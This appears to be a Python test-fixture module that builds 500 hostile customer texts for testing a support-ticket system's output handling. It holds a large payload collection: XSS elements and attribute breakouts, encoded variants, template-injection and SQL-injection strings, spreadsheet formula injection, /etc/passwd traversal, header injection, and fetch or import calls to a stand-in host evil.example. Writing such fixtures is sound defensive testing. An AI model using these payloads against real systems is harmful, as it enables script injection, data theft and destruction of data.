"""Texts that customers could send to do harm to whoever reads them: five hundred, no two alike, made from families.

Every family with a script says by its own number which text ran: it sets `document.title`, asks for an address of another
host, or opens a dialog. Nothing here needs the network.
"""

from collections.abc import Callable, Iterator
from itertools import count

COUNT = 500
_RUN = (
    "alert(«n»)",
    "document.title='hostile-«n»'",
    "fetch('//evil.example/«n»')",
    "window.hostile=«n»",
    "import('//evil.example/«n».js')",
    "location='//evil.example/«n»'",
)
#: Elements that run something by themselves, or when they are looked at.
_ELEMENTS = (
    "<script>«run»</script>",
    "<ScRiPt/x>«run»</sCrIpT >",
    "<img src=x onerror=«run»>",
    '<img src="x" onerror="«run»" alt="«n»">',
    "<svg onload=«run»>",
    "<svg><script>«run»</script></svg>",
    "<svg><animate onbegin=«run» attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=«run»></mtext></math>",
    "<body onload=«run»>",
    "<details open ontoggle=«run»>«n»</details>",
    "<input autofocus onfocus=«run»>",
    "<video><source onerror=«run»></video>",
    "<audio src=x onerror=«run»>",
    "<iframe srcdoc='<script>parent.«run»</script>'></iframe>",
    "<object data='javascript:«run»'></object>",
    "<embed src='javascript:«run»'>",
    "<a href='javascript:«run»' autofocus>«n»</a>",
    "<form action='javascript:«run»'><button autofocus>«n»</button></form>",
    "<link rel=stylesheet href=//evil.example/«n».css>",
    "<style>@import '//evil.example/«n».css';*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/«n»'>",
    "<base href=//evil.example/«n»/>",
    "<template><script>«run»</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=«run»>'>",
    "<xss id=x style=animation-name:x onanimationstart=«run» tabindex=1>«n»</xss>",
    "<marquee onstart=«run»>«n»</marquee>",
    "<select autofocus onfocus=«run»><option>«n»</select>",
    "<picture><img srcset=x onerror=«run»></picture>",
    "<dialog open><form method=dialog><button formaction=javascript:«run»>«n»</button></form></dialog>",
    "<portal src=//evil.example/«n»></portal>",
)
#: Ways out of where a text may stand: an element, an attribute in either quotes or none, a comment, a script, a style.
_ESCAPES = (
    "«x»", '">«x»', "'>«x»", "</p>«x»", "</bdi></title>«x»", "</textarea>«x»", "</option></select>«x»", "-->«x»", "]]>«x»",
    "</script>«x»", "</style>«x»", "</template>«x»",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="«run»" x="', "' onfocus='«run»' autofocus x='", " onclick=«run» ",
    '" style="background:url(//evil.example/«n»)',
    '" href="javascript:«run»', "javascript:«run»", "data:text/html,<script>«run»</script>", "vbscript:«run»",
    "JaVaScRiPt&#58;«run»", "java\tscript:«run»", "\x01javascript:«run»", "//evil.example/«n»", "https:evil.example/«n»",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;«run»&lt;/script&gt;", "&#60;img src=x onerror=«run»&#62;", "%3Cscript%3E«run»%3C/script%3E",
    "\\u003cscript\\u003e«run»", "＜script＞«run»＜/script＞", "<\x00script>«run»</script>", "<scr\u200bipt>«run»</script>",
    "<<script>«run»//<</script>", "<script\u2028>«run»</script>", "+ADw-script+AD4-«run»", "¼script¾«run»¼/script¾",
)  # fmt: skip
_TEMPLATES = (
    "{{ «n»*7 }}", "{% for x in range(«n») %}{{x}}{% endfor %}", "{{ ''.__class__.__mro__[«n»] }}", "${«n»*7}",
    "#{«n»*7}", "<%= «n»*7 %>", "{{constructor.constructor('«run»')()}}", "{nombre} {ticket} «n»", "%(«n»)s %n«n» %x",
    "{«n».__class__.__init__.__globals__}", "{{#«n»}}{{/«n»}}", "$(id)«n»", "`id «n»`",
)  # fmt: skip
_STRUCTURED = (
    "=HYPERLINK(\"//evil.example/«n»\";\"«n»\")", "+«n»+cmd|' /C calc'!A0", "-«n»+1", "@SUM(«n»)", "\t=«n»", "\r=1+«n»", "|=«n»",
    "'; DROP TABLE tickets; -- «n»", "' OR «n»=«n» --", "\" UNION SELECT «n» --",
    "words: \"«n»* NEAR/", "../../../etc/passwd?«n»",
    '{"title": "«n»", "__proto__": {"x": «n»}}', "«n»\r\nSet-Cookie: soporte-session=«n»", "data: «n»\n\nevent: changed\n\n",
    "BEGIN:VCARD\nFN:<b>«n»</b>\nEND:VCARD", "*_*_«n»_*_* ~~~ ```", "SF-«n» [Atender](javascript:«run»)",
)  # fmt: skip
_UNSEEN = (
    "\u202e«n» osrever\u202c", "\u2066\u2067«n»\u2069", "\u200f«n»\u200e", "a«marks»«n»",
    "\ufeff«n»\u200b\u200d\u2060", "\x00\x01\x1b[31m«n»\x7f",
    "\u0085\u2028«n»\u2029", "سلام «n» שלום", "👩‍👩‍👧‍👦🏳️‍🌈«n»", "\U000e0041\U000e0042«n»", "ﷺ꧅𒐫«n»", "\ufffd\uffff«n»",
    "ｆｕｌｌ«n»",
)  # fmt: skip
_LONG = ("W" * 1200 + "«n»", "🙈" * 700 + "«n»", "\n" * 300 + "«n»", "<b>" * 300 + "«n»", "a " * 600 + "«n»", "&" * 900 + "«n»")


def texts() -> list[str]:
    """All of them, in an order that puts some of each family into every dozen."""
    scripts, structured = _scripts(), _shaped(_STRUCTURED)
    attributes, encoded, templates, unseen, long = map(_shaped, (_ATTRIBUTES, _ENCODED, _TEMPLATES, _UNSEEN, _LONG))
    families = (scripts, attributes, scripts, encoded, templates, scripts, structured, scripts, unseen, long)
    return [next(families[number % len(families)])(number) for number in range(COUNT)]


def _scripts() -> Iterator[Callable[[int], str]]:
    """Every element behind one way out after the other."""
    for turn in count():
        yield _made(_ESCAPES[turn * 5 % len(_ESCAPES)].replace("«x»", _ELEMENTS[turn % len(_ELEMENTS)]), turn)


def _shaped(shapes: tuple[str, ...]) -> Iterator[Callable[[int], str]]:
    for turn in count():
        yield _made(shapes[turn % len(shapes)], turn)


def _made(shape: str, turn: int) -> Callable[[int], str]:
    run = _RUN[(turn + turn // len(_RUN)) % len(_RUN)]
    return lambda n: shape.replace("«run»", run).replace("«marks»", "\u0301" * (40 + n % 40)).replace("«n»", str(n))
